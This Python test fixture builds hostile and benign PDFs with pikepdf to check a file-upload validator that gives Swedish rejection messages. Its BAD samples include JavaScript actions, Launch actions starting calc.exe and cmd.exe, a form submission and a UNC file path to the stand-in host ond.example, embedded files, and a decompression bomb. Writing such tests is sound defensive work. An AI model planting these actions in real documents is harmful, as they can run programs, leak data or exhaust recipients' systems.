"""PDFs that do more than show pages, and those that only look as if they did."""

from __future__ import annotations

import io
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.files.corpus import docx, hostile, pdf

SCRIPT, INSIDE = "Filen innehåller program som körs", "Filen har andra filer inuti sig"
LOCKED, DAMAGED = "Filen är låst med lösenord", "Filen är skadad"
MOVES = "Filen innehåller något som rör sig"
JAVASCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
LAUNCH = Dictionary(S=Name.Launch, F=String("calc.exe"))
SUBMIT = Dictionary(S=Name.SubmitForm, F=String("https://ond.example/"))
WEB = Dictionary(S=Name.URI, URI=String("https://ond.example/"))


def lays(subtype: str, **keys: Any) -> bytes:
    """Something that lies on the page."""

    def change(document: Pdf, page: pikepdf.Page) -> None:
        rect = Array([0, 0, 20, 20])
        made = Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=rect, **keys)
        page.Annots = Array([document.make_indirect(made)])

    return hostile(change)


def opens(action: Any) -> bytes:
    return hostile(lambda document, _page: document.Root.__setattr__("OpenAction", action))


def embeds(**keys: Any) -> bytes:
    def change(document: Pdf, _page: pikepdf.Page) -> None:
        held = Dictionary(F=Stream(document, docx()))
        cover = Dictionary(Type=Name.Filespec, F=String("bilaga.docx"), EF=held, **keys)
        files = Dictionary(Names=Array([String("a"), document.make_indirect(cover)]))
        document.Root.Names = Dictionary(EmbeddedFiles=files)

    return hostile(change)


def with_stream(content: bytes, **keys: Any) -> bytes:
    def change(document: Pdf, page: pikepdf.Page) -> None:
        made = Stream(document, content)
        for key, value in keys.items():
            made[f"/{key}"] = value
        page.Resources = Dictionary(XObject=Dictionary(X=document.make_indirect(made)))

    return hostile(change)


def written(text: bytes) -> bytes:
    """A page that says something, not packed, so that every byte of it can be found."""
    document = pikepdf.new()
    page = document.add_blank_page()
    page.Contents = Stream(document, b"BT (" + text + b") Tj ET")
    document.docinfo["/Title"] = text.decode()
    made = io.BytesIO()
    document.save(made, compress_streams=False)
    return made.getvalue()


def locked(**settings: Any) -> bytes:
    document, made = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    document.save(made, encryption=pikepdf.Encryption(**settings))
    return made.getvalue()


def deep() -> bytes:
    """Arrays in one another, further than anything that shows a page."""
    nested = b"[" * 300 + b"/AA" + b"]" * 300
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /X " + nested)


def form(**keys: Any) -> Any:
    return lambda document, _page: document.Root.__setattr__("AcroForm", Dictionary(**keys))


BAD: dict[str, tuple[bytes, str]] = {
    "script at the opening": (opens(JAVASCRIPT), SCRIPT),
    "script in a list of names": (
        hostile(
            lambda document, _page: document.Root.__setattr__(
                "Names",
                Dictionary(JavaScript=Dictionary(Names=Array([String("a"), JAVASCRIPT]))),
            )
        ),
        SCRIPT,
    ),
    "script when a page is turned": (
        hostile(lambda _document, page: page.__setattr__("AA", Dictionary(O=JAVASCRIPT))),
        SCRIPT,
    ),
    "script behind a link": (lays("Link", A=JAVASCRIPT), SCRIPT),
    "script in a field": (lays("Widget", AA=Dictionary(F=JAVASCRIPT)), SCRIPT),
    "script after something else": (
        opens(Dictionary(S=Name.GoTo, D=String("a"), Next=JAVASCRIPT)),
        SCRIPT,
    ),
    "script that calls itself something else": (
        opens(Dictionary(Type=Name.StructElem, S=Name.Rendition, JS=String("x"))),
        SCRIPT,
    ),
    "starts a program": (opens(LAUNCH), SCRIPT),
    "starts a program behind a link": (lays("Link", A=LAUNCH), SCRIPT),
    "starts a program of Windows": (
        lays("Link", A=Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe")))),
        SCRIPT,
    ),
    "sends what is filled in": (lays("Widget", A=SUBMIT), SCRIPT),
    "fetches what is filled in": (
        lays("Widget", A=Dictionary(S=Name.ImportData, F=String("a.fdf"))),
        SCRIPT,
    ),
    "goes to the web by itself": (opens(WEB), SCRIPT),
    "goes to the web by itself, after a page": (
        opens(Dictionary(S=Name.GoTo, D=String("a"), Next=WEB)),
        SCRIPT,
    ),
    "goes to the web by itself, with others": (
        opens(Dictionary(S=Name.GoTo, D=String("a"), Next=Array([WEB]))),
        SCRIPT,
    ),
    "goes to another file by itself": (
        opens(Dictionary(S=Name.GoToR, F=String("\\\\ond.example\\a.pdf"))),
        SCRIPT,
    ),
    "a file inside": (embeds(), INSIDE),
    "a file inside that is the real one, locked": (
        embeds(AFRelationship=Name.EncryptedPayload),
        LOCKED,
    ),
    "a file pinned to the page": (
        lays("FileAttachment", FS=Dictionary(F=String("a"), EF=Dictionary(F=String("x")))),
        INSIDE,
    ),
    "a form that few can show": (hostile(form(XFA=String("<xdp/>"))), "Filen är ett formulär"),
    "film": (lays("Movie"), MOVES),
    "sound": (lays("Sound"), MOVES),
    "a screen": (lays("Screen"), MOVES),
    "rich media": (lays("RichMedia"), MOVES),
    "a thing in three dimensions": (lays("3D"), MOVES),
    "content that lies elsewhere": (
        with_stream(b"", F=String("\\\\ond.example\\a")),
        "Filen hämtar innehåll",
    ),
    "picture that says it is huge": (
        with_stream(b"x", Subtype=Name.Image, Width=30_000, Height=30_000),
        "Filen är för stor",
    ),
    "bomb": (with_stream(b"\0" * 201_000_000), "Filen är för stor"),
    "more pages than anybody reads": (pdf(1_001), "Filen har fler än 1 000 sidor"),
    "no pages": (pdf(0), DAMAGED),
    "deeper than any page": (deep(), DAMAGED),
    "locked": (locked(owner="hemligt", user="hemligt"), LOCKED),
    "locked in an old way": (locked(owner="a", user="a", R=3, aes=False, metadata=False), LOCKED),
    "cut off": (pdf()[:60], DAMAGED),
    "cut off at its list": (pdf()[:-120], DAMAGED),
    "a great deal after": (pdf() + b"x" * 4096, DAMAGED),
    "only a beginning and an end": (b"%PDF-1.7\n" + b"x" * 200 + b"\n%%EOF", DAMAGED),
    "a picture before": (b"GIF89a" + pdf(), "Filens innehåll"),
    "its beginning far away": (b" " * 2_000 + pdf(), "Filens innehåll"),
    "a package in the same file": (pdf()[:-6] + docx() + b"%%EOF", "Filens innehåll"),
}  # fmt: skip

GOOD: dict[str, bytes] = {
    "one page": pdf(),
    "many pages": pdf(40),
    "for the web": pdf(linearize=True),
    "packed tightly": pdf(3, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "line ends last": pdf() + b"\r\n\r\n",
    "filled up after its end": pdf() + b"\0" * 4096,
    "a mark of letters before": b"\xef\xbb\xbf" + pdf(),
    "line ends before": b"\r\n\r\n" + pdf(),
    "a printer's words before": b"\x1b%-12345X@PJL SET\r\n" + pdf(),
    "text about scripts": written(b"/JavaScript /JS /Launch /EF /XFA"),
    "may not be changed": locked(owner="hemligt", user=""),
    "opens at a page": opens(Array([0, Name.Fit])),
    "opens at a place": opens(Dictionary(S=Name.GoTo, D=String("mal"))),
    "opens as for print": opens(Dictionary(S=Name.Named, N=Name.Print)),
    "link to the web": lays("Link", A=WEB),
    "link to another file": lays("Link", A=Dictionary(S=Name.GoToR, F=String("a.pdf"))),
    "comment": lays("Text", Contents=String("Stämmer det?")),
    "form": hostile(form(Fields=Array([]))),
    "heading called as a program": hostile(
        lambda document, _page: document.Root.__setattr__(
            "StructTreeRoot",
            Dictionary(K=Dictionary(Type=Name.StructElem, S=Name.Launch, P=String("x"))),
        )
    ),
    "torn content": with_stream(b"x", Filter=Name.FlateDecode),
}
